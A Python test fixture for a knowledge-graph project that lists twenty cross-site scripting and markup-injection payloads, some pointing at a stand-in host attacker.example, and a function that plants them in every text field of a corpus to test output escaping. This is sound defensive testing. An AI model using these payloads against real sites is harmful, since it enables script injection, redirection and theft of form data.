"""Records whose every text tries to be more than text, for tests of what is made of them."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from kg.model import Claim, Corpus, Evidence

__all__ = ["PAYLOADS", "hostile"]

PAYLOADS = (
    "<script>window.hit=1</script>",
    "</script><script>window.hit=2</script>",
    "<img src=x onerror=window.hit=3>",
    "<svg onload=window.hit=4>",
    "<a href='javascript:window.hit=5'>href</a>",
    '"><script>window.hit=6</script>',
    "'><img src=x onerror=window.hit=7>",
    "<!--<script>window.hit=8",
    "--><script>window.hit=9</script>",
    "</title><script>window.hit=10</script>",
    "</style><script>window.hit=11</script>",
    "</noscript><img src=x onerror=window.hit=12>",
    "<iframe srcdoc='<script>parent.hit=13</script>'></iframe>",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/'>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<form action=https://attacker.example/><button autofocus>go</button></form>",
    "{{ 7 * 7 }}{% raw %}<b>bold</b>",
    "${window.hit=19}`;window.hit=19//<b>",
    "\u2028</ScRiPt\t><ScRiPt>window.hit=20</sCrIpT>",
)


def hostile(corpus: Corpus, payload: str) -> Corpus:
    """Put a payload into every text of a corpus that has no fixed form, identifiers included."""

    def evil(name: str) -> str:
        return f"{name} {payload}" if name else ""

    def piece(evidence: Evidence) -> Evidence:
        context = replace(evidence.context, model=(payload,), dose=(payload,))
        return replace(
            evidence,
            id=evil(evidence.id),
            source=evil(evidence.source),
            study=evil(evidence.study),
            context=context,
            note=payload,
        )

    def claim(old: Claim) -> Claim:
        return replace(
            old,
            id=evil(old.id),
            subject=evil(old.subject),
            object=evil(old.object),
            site=evil(old.site),
            evidence=tuple(map(piece, old.evidence)),
        )

    claims = [claim(old) for old in corpus.claims.values()]
    terms = [
        replace(
            term,
            id=evil(term.id),
            label=evil(term.label),
            curie=evil(term.curie),
            synonyms=(payload,),
            note=payload,
        )
        for term in corpus.terms.values()
    ]
    sources = [
        replace(source, id=evil(source.id), title=evil(source.title), doi=payload)
        for source in corpus.sources.values()
    ]
    studies = [
        replace(
            study,
            id=evil(study.id),
            source=evil(study.source),
            ref=payload,
            authors=payload,
            title=payload,
            doi=f"javascript:{payload}",
        )
        for study in corpus.studies.values()
    ]
    return replace(
        corpus,
        terms={term.id: term for term in terms},
        structure=tuple(
            replace(edge, subject=evil(edge.subject), object=evil(edge.object), note=payload)
            for edge in corpus.structure
        ),
        sources={source.id: source for source in sources},
        studies={study.id: study for study in studies},
        claims={claim.id: claim for claim in claims},
        experiments={},
        gaps={},
        discrepancies={},
        out_of_scope=(),
    )
